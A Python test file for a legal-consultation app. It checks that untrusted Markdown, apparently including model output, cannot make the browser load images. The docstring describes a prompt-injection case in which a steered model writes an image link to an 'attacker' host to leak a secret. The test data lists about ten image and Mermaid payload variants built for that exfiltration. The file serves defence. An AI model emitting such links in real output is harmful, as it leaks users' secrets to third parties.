"""Untrusted text rendered as Markdown never makes the browser fetch anything.

A model steered by a prompt injection could write ``![x](https://attacker/?q=<secret>)``: rendered as an
image, the visitor's browser would send the secret (and the app's address as Referer) on every streamed
update. So :func:`~lawluo.agents.secretary.md_text` leaves no image syntax (inline, reference-style,
collapsed, shortcut) and no ```` ```mermaid ```` fence (Gradio renders those as Mermaid diagrams, whose
labels may hold ``<img>``), while the characters still display as written. Checked with a CommonMark
renderer here; the browser test (``test_image_leak_browser.py``) checks Gradio's own renderer.
"""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from lawluo.agents.secretary import Report, md_text, render_markdown
from lawluo.firm.state import Consultation, Turn
from lawluo.ui import consult_render as cr

LEAK = "http://127.0.0.1:8765/leak"
IMAGES = {
    "inline": f"![x]({LEAK}?q=secret)",
    "inline with title": f'![x]({LEAK} "t")',
    "angle-bracket destination": f"![x](<{LEAK}>)",
    "reference-style": f"![a][r]\n\n[r]: {LEAK}?ref",
    "collapsed reference": f"![r][]\n\n[r]: {LEAK}",
    "shortcut reference": f"![r]\n\n[r]: {LEAK}",
    "inside a link": f"[![x]({LEAK})](http://example.com)",
    "in a list item": f"- 第一点\n- ![x]({LEAK})",
    "after an escaped backslash": f"\\\\![x]({LEAK})",
    "double bang": f"!![x]({LEAK})",
}
MERMAID = f"```mermaid\nflowchart LR\n  A[\"<img src='{LEAK}'>\"]\n```"


def rendered(markdown: str) -> str:
    return MarkdownIt("commonmark").render(markdown)


@pytest.mark.parametrize("text", IMAGES.values(), ids=IMAGES.keys())
def test_image_syntax_in_untrusted_text_renders_no_image(text):
    assert "<img" in rendered(text)  # the renderer would fetch the raw text's image
    html = rendered(md_text(text))
    assert "<img" not in html
    assert "![" in html  # the text still shows, as text


def test_the_characters_of_an_image_link_display_as_written():
    assert rendered(md_text(f"注意![x]({LEAK})")) == f"<p>注意![x]({LEAK})</p>\n"


@pytest.mark.parametrize("fence", ["```mermaid", "- ```mermaid", "````mermaid"])
def test_no_mermaid_diagram_can_be_opened_by_untrusted_text(fence):
    """Gradio's renderer turns a block starting with ```mermaid into a Mermaid diagram."""
    text = md_text(MERMAID.replace("```mermaid", fence, 1))
    assert "```" not in text
    assert "<img" not in rendered(text)


@pytest.mark.parametrize("text", [*IMAGES.values(), MERMAID], ids=[*IMAGES.keys(), "mermaid"])
def test_chat_messages_of_the_question_and_the_answer_show_no_image(text):
    state = Consultation(id="c1")
    state.turns += [Turn("client", text), Turn("lawyer", text, note=text)]
    messages = cr.chat_messages(state, streaming=text)
    assert len(messages) == 3
    for message in messages:
        assert "<img" not in rendered(message["content"]) and "```" not in message["content"]


def test_the_report_shows_no_image():
    image = IMAGES["inline"] + "\n" + IMAGES["reference-style"]
    report = Report(
        number="LL-1",
        date="2024年06月01日",
        client=image,
        subject=image,
        purpose=image,
        facts=image,
        analysis=image + "\n" + MERMAID,
        advice=[image],
        risks=[image],
        generated_by=image,
        notice=image,
    )
    markdown = render_markdown(report)  # as the tab shows it and the .md holds it
    assert "<img" not in rendered(markdown)
    assert "```" not in markdown
